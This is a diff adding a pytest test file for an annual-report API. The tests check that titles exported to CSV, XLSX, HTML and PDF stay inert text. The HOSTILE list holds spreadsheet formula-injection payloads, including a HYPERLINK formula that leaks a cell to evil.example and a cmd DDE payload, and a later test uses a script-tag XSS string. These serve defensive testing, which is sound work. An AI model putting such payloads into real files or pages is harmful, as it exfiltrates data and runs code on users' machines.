@@ -1,0 +1,99 @@
+"""Hostile and unusual text in the report's formats: formulas stay text, markup stays text,
+any script renders in the PDF."""
+
+from __future__ import annotations
+
+import csv
+import io
+import zipfile
+from datetime import UTC, datetime
+
+import pytest
+from openpyxl import load_workbook
+
+from app.reports.render import spreadsheet_safe
+from tests.factories import ApiFactory
+
+REPORT = "/api/v1/reports/annual"
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+]
+
+
+def _get(api: ApiFactory, fmt: str, **params: str) -> bytes:
+    year = datetime.now(UTC).year
+    response = api.client.get(
+        REPORT, params={"year": year, "format": fmt, **params}, headers=api.staff
+    )
+    assert response.status_code == 200, response.text
+    return response.content
+
+
+@pytest.mark.parametrize(
+    ("value", "expected"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-3, -3),
+        (2.5, 2.5),
+        (None, None),
+    ],
+)
+def test_spreadsheet_safe(value: object, expected: object) -> None:
+    assert spreadsheet_safe(value) == expected  # type: ignore[arg-type]
+
+
+def test_formulas_in_titles_stay_text_in_csv_and_xlsx(api: ApiFactory) -> None:
+    for title in HOSTILE:
+        api.request("KAZ", status="open", consent_to_publish=True, title=title)
+    report = api.client.get(
+        REPORT, params={"year": datetime.now(UTC).year}, headers=api.staff
+    ).json()
+    published = next(t for t in report["tables"] if t["name"] == "published_requests")
+    assert sorted(row[1] for row in published["rows"]) == sorted(HOSTILE), "JSON keeps the text"
+
+    single = _get(api, "csv", table="published_requests").decode("utf-8-sig")
+    titles = [row[1] for row in csv.reader(io.StringIO(single))][1:]
+    assert sorted(titles) == sorted("'" + t for t in HOSTILE)
+    archive = zipfile.ZipFile(io.BytesIO(_get(api, "csv")))
+    member = next(n for n in archive.namelist() if n.endswith("-published_requests.csv"))
+    assert archive.read(member).decode("utf-8-sig") == single
+
+    workbook = load_workbook(io.BytesIO(_get(api, "xlsx")))
+    cells = [row[1] for row in workbook["published_requests"].iter_rows(min_row=2)]
+    assert sorted(c.value for c in cells) == sorted("'" + t for t in HOSTILE)
+    assert {c.data_type for c in cells} == {"s"}, "no cell is a formula"
+
+
+def test_markup_in_titles_is_escaped_in_html(api: ApiFactory) -> None:
+    api.request(
+        "KAZ", status="open", consent_to_publish=True, title="<script>alert('x')</script> & co"
+    )
+    page = _get(api, "html").decode()
+    assert "<script" not in page
+    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt; &amp; co" in page
+
+
+def test_pdf_renders_titles_in_any_script(api: ApiFactory) -> None:
+    for title in ("Создание национального механизма", "国家防范机制", "Côte d'Ivoire: ÉDUCATION"):
+        api.request("KAZ", status="open", consent_to_publish=True, title=title)
+    api.activity("KAZ", consent_to_publish=True, title="Séminaire « contrôle »")
+    content = _get(api, "pdf")
+    assert content.startswith(b"%PDF-")
+    workbook = load_workbook(io.BytesIO(_get(api, "xlsx")))
+    titles = [r[1] for r in workbook["published_activities"].iter_rows(values_only=True)]
+    assert "Séminaire « contrôle »" in titles
+
+
+def test_an_empty_year_renders_in_every_format(api: ApiFactory) -> None:
+    for fmt in ("json", "csv", "xlsx", "html", "pdf"):
+        assert _get(api, fmt, year="2008")
